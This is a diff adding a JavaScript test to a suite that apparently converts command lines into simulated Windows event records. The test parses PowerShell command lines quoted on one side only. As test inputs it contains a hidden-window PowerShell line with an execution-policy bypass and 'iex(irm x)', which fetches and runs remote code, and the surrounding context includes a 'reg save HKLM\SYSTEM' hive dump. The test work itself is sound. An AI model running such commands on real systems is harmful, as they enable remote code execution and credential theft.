@@ -217,3 +217,24 @@ describe('the files a command writes', () => {
     expect(written('reg save HKLM\\SYSTEM system.hiv')).toEqual([]);
   });
 });
+
+describe('a command line an article quoted on one side only', () => {
+  it('runs the program whose path kept only its closing quote', () => {
+    const [process] = eventsOf('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe" -w h -ep bypass -c "iex(irm x)"');
+    expect(process).toEqual(
+      expect.objectContaining({
+        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe',
+        CommandLine: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe" -w h -ep bypass -c "iex(irm x)"',
+      }),
+    );
+    // PowerShell's own logs name the host without the launcher's quotes.
+    expect(withId(eventsOf('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe" -c "Get-Date"'), 400)).toEqual([
+      expect.objectContaining({
+        Data: expect.stringContaining('HostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe -c'),
+      }),
+    ]);
+    // A line quoted properly, or not at all, is left as it is.
+    expect(eventsOf('"C:\\Tools\\a.exe" -x')[0]?.['CommandLine']).toBe('"C:\\Tools\\a.exe" -x');
+    expect(eventsOf('C:\\Tools\\a.exe -x "y"')[0]?.['CommandLine']).toBe('C:\\Tools\\a.exe -x "y"');
+  });
+});
